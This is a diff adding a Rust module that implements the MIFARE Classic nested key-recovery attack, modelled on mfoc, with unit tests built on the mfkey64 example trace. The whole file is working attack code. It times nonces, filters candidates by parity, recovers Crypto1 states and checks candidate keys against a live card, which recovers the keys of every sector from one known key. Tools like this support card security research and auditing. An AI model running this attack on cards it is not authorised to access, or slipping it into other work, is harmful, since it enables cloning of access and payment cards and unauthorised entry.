@@ -0,0 +1,248 @@
+//! Recovering unknown MIFARE Classic keys from one known key, the attack
+//! `mfoc` implements.
+//!
+//! Authenticating while already authenticated makes the card send its nonce
+//! encrypted with the key being asked for. The card's nonces come from a 16
+//! bit generator clocked at a steady rate, so timing the exchange narrows the
+//! nonce down to a few candidates, the parity bits rule out most of them, and
+//! each remaining one gives the 32 bits of keystream needed to recover the
+//! key up to about 2^16 candidates. A few such nonces leave only the key.
+//!
+//! Cards with a hardened nonce generator, like the MIFARE Classic EV1 and
+//! most newer clones, aren't vulnerable.
+
+use super::classic::{key_accepted, trailer_block, Key, KeyType, Layout, SectorKeys};
+use super::crypto1::{odd_parity, prng_successor, recover_states, RawSession};
+use crate::{Error, Result};
+
+use std::collections::HashSet;
+
+/// How many times the distance between nonces is measured.
+const DISTANCE_SAMPLES: usize = 15;
+/// How far from the measured distance a nonce is looked for.
+const TOLERANCE: u32 = 20;
+/// How many encrypted nonces are collected for a key at most.
+const MAX_NONCES: usize = 6;
+/// How few candidates are left before trying them on the card.
+const CANDIDATE_THRESHOLD: usize = 16;
+
+/// A key known to work for a block.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub struct KnownKey {
+    pub block: u8,
+    pub key_type: KeyType,
+    pub key: Key,
+}
+
+/// The nested attack, run through a raw session.
+pub struct NestedAttack<'s, 'a, 'context> {
+    session: &'s mut RawSession<'a, 'context>,
+    known: KnownKey,
+    distance: Option<u32>,
+}
+
+impl<'s, 'a, 'context> NestedAttack<'s, 'a, 'context> {
+    pub fn new(session: &'s mut RawSession<'a, 'context>, known: KnownKey) -> Self {
+        NestedAttack {
+            session,
+            known,
+            distance: None,
+        }
+    }
+
+    /// The number of generator steps between the nonce of an authentication
+    /// and the one of a nested authentication right after it, measured once.
+    pub fn distance(&mut self) -> Result<u32> {
+        if let Some(distance) = self.distance {
+            return Ok(distance);
+        }
+
+        let mut distances = Vec::with_capacity(DISTANCE_SAMPLES);
+        for _ in 0..DISTANCE_SAMPLES {
+            let first = self.authenticate_known()?;
+            let second = self.session.authenticate(
+                self.known.block,
+                self.known.key_type,
+                &self.known.key,
+            )?;
+            distances.push(nonce_distance(first, second).ok_or_else(unpredictable)?);
+        }
+
+        distances.sort_unstable();
+        let median = distances[distances.len() / 2];
+        if distances[distances.len() - 1] - distances[0] > 2 * TOLERANCE {
+            return Err(unpredictable());
+        }
+        self.distance = Some(median);
+        Ok(median)
+    }
+
+    /// Recovers the key of the sector containing `block`.
+    pub fn recover(&mut self, block: u8, key_type: KeyType) -> Result<Key> {
+        let distance = self.distance()?;
+        let uid = self.session.auth_uid();
+
+        let mut candidates: Option<HashSet<Key>> = None;
+        for _ in 0..MAX_NONCES {
+            let plain = self.authenticate_known()?;
+            let (encrypted, parity) = self.session.request_nonce(block, key_type)?;
+
+            let mut keys = HashSet::new();
+            let first = distance.saturating_sub(TOLERANCE);
+            for steps in first..=distance + TOLERANCE {
+                let nonce = prng_successor(plain, steps);
+                let keystream = encrypted ^ nonce;
+                if !parity_matches(nonce, keystream, &parity) {
+                    continue;
+                }
+                for mut state in recover_states(keystream, nonce ^ uid) {
+                    state.rollback_word(nonce ^ uid, false);
+                    keys.insert(state.key());
+                }
+            }
+
+            let remaining = match candidates.take() {
+                Some(previous) => previous.intersection(&keys).copied().collect(),
+                None => keys,
+            };
+            let done = remaining.len() <= CANDIDATE_THRESHOLD;
+            candidates = Some(remaining);
+            if done {
+                break;
+            }
+        }
+
+        for key in candidates.unwrap_or_default() {
+            self.session.reselect()?;
+            if key_accepted(self.session.authenticate(block, key_type, &key))? {
+                return Ok(key);
+            }
+        }
+        Err(Error::new("No recovered key candidate authenticated"))
+    }
+
+    /// Recovers every key missing from `keys`, indexed by sector, filling
+    /// them in as they're found.
+    pub fn recover_all(&mut self, layout: Layout, keys: &mut Vec<SectorKeys>) -> Result<()> {
+        keys.resize(usize::from(layout.sector_count()), SectorKeys::default());
+        for sector in layout.sectors() {
+            for &key_type in &[KeyType::A, KeyType::B] {
+                if keys[usize::from(sector)].get(key_type).is_none() {
+                    let key = self.recover(trailer_block(sector), key_type)?;
+                    keys[usize::from(sector)].set(key_type, key);
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// Starts over with a plain authentication using the known key, returning
+    /// the card's nonce.
+    fn authenticate_known(&mut self) -> Result<u32> {
+        self.session.reselect()?;
+        self.session
+            .authenticate(self.known.block, self.known.key_type, &self.known.key)
+    }
+}
+
+/// How many times the generator has to be clocked to get from one nonce to
+/// the other, if it can at all.
+pub fn nonce_distance(from: u32, to: u32) -> Option<u32> {
+    let mut nonce = from;
+    for steps in 0..=u32::from(u16::MAX) {
+        if nonce == to {
+            return Some(steps);
+        }
+        nonce = prng_successor(nonce, 1);
+    }
+    None
+}
+
+/// Whether the parity bits the card sent with its encrypted nonce fit a
+/// candidate nonce. Each one is the plain byte's parity encrypted with the
+/// keystream bit that goes on to encrypt the first bit of the next byte.
+fn parity_matches(nonce: u32, keystream: u32, parity: &[bool]) -> bool {
+    parity.len() >= 3
+        && (0..3).all(|i| {
+            let byte = (nonce >> (24 - 8 * i)) as u8;
+            let keystream_bit = keystream >> (16 - 8 * i) & 1 == 1;
+            odd_parity(byte) ^ parity[i] == keystream_bit
+        })
+}
+
+fn unpredictable() -> Error {
+    Error::new("The card's nonces aren't predictable, it isn't vulnerable to the nested attack")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::crypto1::Crypto1;
+    use super::*;
+
+    // the example trace of mfkey64, authenticating with key FFFFFFFFFFFF
+    const UID: u32 = 0x9c59_9b32;
+    const NT: u32 = 0x82a4_166c;
+    const NR_ENC: u32 = 0xa1e4_58ce;
+    const AR_ENC: u32 = 0x6eea_41e0;
+    const AT_ENC: u32 = 0x5cad_f439;
+    const KEY: Key = [0xff; 6];
+
+    /// The cipher right after the reader nonce.
+    fn cipher() -> Crypto1 {
+        let mut cipher = Crypto1::new(&KEY);
+        cipher.word(UID ^ NT, false);
+        cipher.word(NR_ENC, true);
+        cipher
+    }
+
+    #[test]
+    fn distance() {
+        for &steps in &[0, 1, 64, 96, 160, 4096, 65_534] {
+            assert_eq!(nonce_distance(NT, prng_successor(NT, steps)), Some(steps));
+        }
+        // the generator repeats after 2^16 - 1 steps
+        assert_eq!(nonce_distance(NT, prng_successor(NT, 65_535)), Some(0));
+
+        // the card's answers in the trace are the successors of its nonce
+        let mut cipher = cipher();
+        let ar = AR_ENC ^ cipher.word(0, false);
+        let at = AT_ENC ^ cipher.word(0, false);
+        assert_eq!(nonce_distance(NT, ar), Some(64));
+        assert_eq!(nonce_distance(ar, at), Some(32));
+    }
+
+    #[test]
+    fn distance_to_foreign_nonce() {
+        // the upper half of a nonce determines the lower one
+        assert_eq!(nonce_distance(NT, NT ^ 1), None);
+        assert_eq!(nonce_distance(NT, 0x1234_5678), None);
+    }
+
+    #[test]
+    fn parity() {
+        // the card's encrypted answer in the trace, with the parity bits it
+        // sent along
+        let mut cipher = cipher();
+        cipher.word(0, false);
+        let at = prng_successor(NT, 96);
+        let (encrypted, parity) = cipher.encrypt(&at.to_be_bytes());
+        assert_eq!(encrypted, AT_ENC.to_be_bytes());
+
+        let keystream = AT_ENC ^ at;
+        assert!(parity_matches(at, keystream, &parity));
+        for i in 0..3 {
+            let mut wrong = parity.clone();
+            wrong[i] = !wrong[i];
+            assert!(!parity_matches(at, keystream, &wrong));
+        }
+        // the parity of the last byte depends on keystream past the nonce
+        let mut last = parity.clone();
+        last[3] = !last[3];
+        assert!(parity_matches(at, keystream, &last));
+        assert!(!parity_matches(at, keystream, &parity[..2]));
+
+        // a neighbouring nonce with the same keystream gives other parities
+        let other = prng_successor(NT, 97);
+        assert!(!parity_matches(other, AT_ENC ^ other, &parity));
+    }
+}